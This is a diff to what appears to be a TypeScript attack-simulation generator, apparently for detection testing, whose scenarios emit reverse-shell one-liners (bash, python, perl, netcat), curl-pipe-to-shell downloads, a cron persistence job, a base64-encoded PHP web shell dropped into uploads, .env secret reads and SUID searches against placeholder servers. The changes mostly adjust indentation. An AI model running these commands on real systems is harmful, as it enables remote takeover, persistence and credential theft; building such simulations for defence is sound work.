@@ -55,15 +55,15 @@ export const scenarios: readonly Scenario[] = [
     lines: (r) => {
       const tool = `${hidden(r)}.sh`;
       const start = r.pick([
-        [`bash -c 'bash -i >& /dev/tcp/${server(r)}/${door(r)} 0>&1'`, 'bash -i'],
+        [`bash -c 'bash -i >& /dev/tcp/${server(r)}/${door(r)} 0>&1'`, '  bash -i'],
         [
           `python3 -c 'import socket,os,pty;s=socket.create_connection(("${server(r)}",${door(r)}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
-          '/bin/sh',
+          '  /bin/sh',
         ],
         [`rm -f /tmp/f`, `mkfifo /tmp/f`, '+ /tmp/f', `sh -i`, `nc ${server(r)} ${door(r)}`],
         [
           `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(${door(r)},inet_aton("${server(r)}")));exec("/bin/sh -i")'`,
-          '/bin/sh -i',
+          '  /bin/sh -i',
         ],
       ]);
       return [...start, ...lookAround(r), `curl -s http://${server(r)}/lp.sh -o ${tool}`, `+ ${tool}`, `sh ${tool} -a`];
@@ -94,7 +94,7 @@ export const scenarios: readonly Scenario[] = [
       if (entry === 'web')
         return [
           `sh -c 'echo "*/${2 + r.integer(9)} * * * * curl -fsSL ${place} | sh" | crontab -'`,
-          'crontab -',
+          '  crontab -',
           '+ /var/spool/cron/crontabs/www-data',
           'crontab -l',
         ];
@@ -130,14 +130,14 @@ export const scenarios: readonly Scenario[] = [
       const path = `/srv/shop/current/public/${r.pick(['uploads', 'assets', 'media'])}/${r.pick(['img', 'thumb', 'cache', 'wp'])}_${randomText(r, 4)}.${r.pick(['php', 'phtml', 'php7'])}`;
       return [
         `sh -c 'echo PD9waHAgQHN5c3RlbSgkX1JFUVVFU1RbMF0pOyA/Pg== | base64 -d > ${path}'`,
-        'base64 -d',
+        '  base64 -d',
         `+ ${path}`,
         `sh -c 'cd /srv/shop && ls -la'`,
-        'ls -la',
+        '  ls -la',
         `sh -c 'cat /srv/shop/shared/.env 2>&1'`,
-        'cat /srv/shop/shared/.env',
+        '  cat /srv/shop/shared/.env',
         `sh -c 'find / -perm -4000 -type f 2>/dev/null'`,
-        'find / -perm -4000 -type f',
+        '  find / -perm -4000 -type f',
       ];
     },
   },
@@ -327,12 +327,13 @@ export const scenarios: readonly Scenario[] = [
     technique: 'T1027',
     entries: anybody,
     lines: (r) => {
-      const payload = btoa(`#!/bin/sh\n# ${mixedText(r, 200 + r.integer(5200))}\ncurl -s http://${server(r)}/a | sh\n`);
+      const address = `http://${server(r)}/a`;
+      const payload = btoa(`#!/bin/sh\n# ${mixedText(r, 200 + r.integer(5200))}\ncurl -s ${address} | sh\n`);
       return [
         `python3 -c 'import base64,os;os.system(base64.b64decode("${payload}").decode())'`,
-        `sh -c 'curl -s http://${server(r)}/a | sh'`,
-        `curl -s http://${server(r)}/a`,
-        'sh',
+        `  sh -c 'curl -s ${address} | sh'`,
+        `  curl -s ${address}`,
+        '  sh',
         `+ ${hidden(r)}`,
       ];
     },
